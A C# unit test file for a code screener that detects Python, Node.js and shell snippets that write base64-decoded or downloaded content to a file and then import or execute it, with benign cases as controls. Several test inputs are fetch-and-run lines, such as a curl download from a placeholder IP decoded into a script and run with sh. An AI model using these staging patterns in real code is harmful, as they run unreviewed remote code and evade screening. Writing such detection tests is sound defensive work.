using InterpreterGuard.Core.Facts;
using InterpreterGuard.Core.Screening;
using InterpreterGuard.Core.Submissions;

namespace InterpreterGuard.Screening.Tests;

/// <summary>What is written into a file, decoded or not, is read where the file is imported, or its text run; what is decoded and unknown is told where it runs.</summary>
public sealed class ImportedFileTests(ParserContainer parser)
{
    // import os;os.system('id -un')
    private const string Encoded = "aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQgLXVuJyk=";

    private readonly IScreener _screener = Screening.Screener(parser);

    [Theory]
    [InlineData("open('helper.py', 'wb').write(base64.b64decode('B'))\nimport helper", "import helper.py")]
    [InlineData("open('helper.py', 'w').write(base64.b64decode('B').decode())\nfrom helper import *", "import helper.py")]
    [InlineData("from pathlib import Path\nPath('helper.py').write_text(base64.b64decode('B').decode())\nimport importlib\nimportlib.import_module('helper')", "import helper.py")]
    [InlineData("with open('pkg/part.py', 'wb') as f:\n    f.write(base64.b64decode('B'))\nfrom pkg import part", "import pkg/part.py")]
    [InlineData("import sys\nopen('/tmp/m/helper.py', 'wb').write(base64.b64decode('B'))\nsys.path.insert(0, '/tmp/m')\nimport helper", "import /tmp/m/helper.py")]
    [InlineData("f = open('helper.py', 'w')\nprint(base64.b64decode('B').decode(), file=f)\nf.close()\n__import__('helper')", "import helper.py")]
    [InlineData("import shutil\nopen('a.txt', 'wb').write(base64.b64decode('B'))\nshutil.move('a.txt', 'helper.py')\nimport helper", "import helper.py")]
    [InlineData("import runpy\nopen('helper.py', 'wb').write(base64.b64decode('B'))\nrunpy.run_path('helper.py')", "runpy.run_path helper.py")]
    [InlineData("import runpy\nopen('helper.py', 'wb').write(base64.b64decode('B'))\nrunpy.run_module('helper')", "runpy.run_module helper.py")]
    [InlineData("import importlib.util\nopen('h.py', 'wb').write(base64.b64decode('B'))\nimportlib.util.spec_from_file_location('h', 'h.py')", "importlib.util.spec_from_file_location h.py")]
    [InlineData("open('helper.py', 'wb').write(base64.b64decode('B'))\nexec(open('helper.py').read())", "exec helper.py")]
    [InlineData("from pathlib import Path\np = Path('helper.py')\np.write_bytes(base64.b64decode('B'))\nexec(compile(p.read_text(), 'helper.py', 'exec'))", "compile helper.py")]
    [InlineData("import subprocess\nopen('helper.py', 'wb').write(base64.b64decode('B'))\nsubprocess.run(['python3', 'helper.py'])", "python3 helper.py")]
    [InlineData("import os\nopen('helper.py', 'wb').write(base64.b64decode('B'))\nos.system('python3 -m helper')", "os.system", "python3 -m helper.py")]
    [InlineData("import os\nos.system('echo B | base64 -d > helper.py')\nimport helper", "os.system", "import helper.py")]
    public async Task A_file_that_Python_runs_is_read(string code, params string[] path)
    {
        var report = await _screener.PythonAsync("import base64\n" + code.Replace("B", Encoded, StringComparison.Ordinal));

        Assert.Contains("id(-un)", report.Calls());
        Assert.Contains(report.Layers, layer => layer.Path[^1] == path[^1]);
        Assert.DoesNotContain(report.Facts, IsDecodedCode);
    }

    [Theory]
    [InlineData("fs.writeFileSync('x.js', Buffer.from('ZXZhbCgnMScp', 'base64')); require('./x.js')", "import x.js")]
    [InlineData("fs.writeFileSync('./x.js', Buffer.from('ZXZhbCgnMScp', 'base64').toString()); require('./x')", "import x.js")]
    [InlineData("fs.writeFileSync('x.js', 'ZXZhbCgnMScp', 'base64'); require('child_process').spawnSync('node', ['x.js'])", "node x.js")]
    [InlineData("fs.writeFileSync('x.mjs', 'ZXZhbCgnMScp', { encoding: 'base64' }); import('./x.mjs')", "import x.mjs")]
    [InlineData("fs.writeFileSync('x.js', Buffer.from('ZXZhbCgnMScp', 'base64')); require('vm').runInThisContext(fs.readFileSync('x.js', 'utf8'))", "vm.runInThisContext x.js")]
    [InlineData("fs.writeFileSync('x.js', Buffer.from('ZXZhbCgnMScp', 'base64')); new (require('worker_threads').Worker)('./x.js')", "worker_threads.Worker x.js")]
    public async Task A_file_that_Node_runs_is_read(string code, string path)
    {
        var report = await _screener.JavaScriptAsync("const fs = require('fs'); " + code);

        Assert.Contains("eval(1)", report.Calls());
        Assert.Contains(report.Layers, layer => layer.Path.SequenceEqual([path]));
        Assert.DoesNotContain(report.Facts, IsDecodedCode);
    }

    [Theory]
    [InlineData("echo aWQgLXVuCg== | base64 -d > x.sh; sh x.sh")]
    [InlineData("echo aWQgLXVuCg== | base64 -d > x.sh; chmod +x x.sh; ./x.sh")]
    [InlineData("echo aWQgLXVuCg== | base64 -d > x.sh; . ./x.sh")]
    [InlineData("base64 -d > x.sh <<'END'\naWQgLXVuCg==\nEND\nbash x.sh")]
    [InlineData("echo aWQgLXVuCg== > x.b64\nbase64 -d x.b64 > x.sh\nmv x.sh y.sh\nsh y.sh")]
    [InlineData("echo id -un >| x.sh; bash < x.sh")]
    [InlineData("{ echo cd /; echo id -un; } > x.sh; cat x.sh | sh")]
    [InlineData("sh < <(echo aWQgLXVuCg== | base64 -d)")]
    public async Task A_file_that_a_shell_runs_is_read(string code) => Assert.Contains("id(-un)", (await _screener.ShellAsync(code)).Calls());

    [Theory]
    [InlineData("python", "import base64, requests\nopen('helper.py', 'wb').write(base64.b64decode(requests.get('http://192.0.2.7/a').text))\nimport helper", "import")]
    [InlineData("python", "import bz2\nopen('helper.py', 'wb').write(bz2.decompress(open('blob', 'rb').read()))\nexec(open('helper.py').read())", "exec")]
    [InlineData("python", "import base64, subprocess, sys\nopen('h.py', 'w').write('x = 1\\n' + base64.b64decode(sys.argv[1]).decode())\nsubprocess.run([sys.executable, 'h.py'])", "python3")]
    [InlineData("javascript", "const fs = require('fs'); fs.writeFileSync('x.js', Buffer.from(process.argv[2], 'base64')); require('./x')", "import")]
    [InlineData("javascript", "const fs = require('fs'); fs.writeFileSync('x.js', process.argv[2], 'base64'); require('child_process').fork('x.js')", "node")]
    [InlineData("shell", "curl -s http://192.0.2.7/a | base64 -d > x.sh; sh x.sh", "sh")]
    [InlineData("shell", "B=$(curl -s http://192.0.2.7/a | base64 -d)\necho \"$B\" > x.sh\nchmod +x x.sh\n./x.sh", "x.sh")]
    [InlineData("shell", "base64 -d < data | tee x.py > /dev/null; python3 x.py", "python3")]
    public async Task What_was_decoded_and_is_unknown_is_told_where_it_runs(string language, string code, string by)
    {
        var report = await _screener.ScreenAsync(new Language(language), code, TestContext.Current.CancellationToken);

        Assert.Contains(report.Facts.OfType<CodeFlow>(), flow => flow.Source == "decoded" && flow.Sink is "code" or "shell" && flow.Argument == "file" && flow.SinkName == by);
    }

    [Theory]
    [InlineData("python", "open('helper.py', 'w').write('def add(a, b):\\n    return a + b\\n')\nimport helper\nprint(helper.add(1, 2))")]
    [InlineData("python", "import json\nopen('data.json', 'w').write(json.dumps({'a': 1}))\nopen('a.csv', 'w').write('a,b')\nimport csv, data")]
    [InlineData("python", "import base64\nopen('a.png', 'wb').write(base64.b64decode(open('a.b64').read()))\nfrom PIL import Image\nImage.open('a.png')")]
    [InlineData("python", "import requests\nopen('helper.py', 'w').write(requests.get('http://192.0.2.7/helper.py').text)\nimport other")]
    [InlineData("javascript", "const fs = require('fs'); fs.writeFileSync('x.js', 'module.exports = 1'); require('./x.js')")]
    [InlineData("javascript", "const fs = require('fs'); fs.writeFileSync('x.json', '{\"a\": 1, \"b\": 2}'); require('./x.json')")]
    [InlineData("javascript", "const fs = require('fs'); fs.writeFileSync('a.png', Buffer.from(fs.readFileSync('a.b64', 'utf8'), 'base64')); require('sharp')('a.png')")]
    [InlineData("shell", "base64 -d a.b64 > a.csv; wc -l a.csv; python3 plot.py a.csv")]
    [InlineData("shell", "cat > x.py <<'END'\nprint(1)\nEND\npython3 x.py")]
    public async Task Honest_files_are_silent(string language, string code)
    {
        var report = await _screener.ScreenAsync(new Language(language), code, TestContext.Current.CancellationToken);

        Assert.DoesNotContain(report.Facts, fact => fact is CodeUnreadable || IsDecodedCode(fact));
    }

    [Fact]
    public async Task Modules_that_import_each_other_are_read_once_however_long_their_chain()
    {
        const int Last = 12;
        var files = Enumerable.Range(0, Last).Select(number => $"open('m{number}.py', 'w').write('import m{number + 1}')\n");

        var report = await _screener.PythonAsync(string.Concat(files) + $"open('m{Last}.py', 'w').write('import m0, os; os.system(\"id -un\")')\nimport m0\nimport m0");

        Assert.Contains("id(-un)", report.Calls());
        Assert.DoesNotContain(report.Facts, fact => fact is CodeUnreadable);
        Assert.Equal(Last + 2, report.Layers.Count);
    }

    private static bool IsDecodedCode(CodeFact fact) => fact is CodeFlow { Source: "decoded", Sink: "code" or "shell" };
}
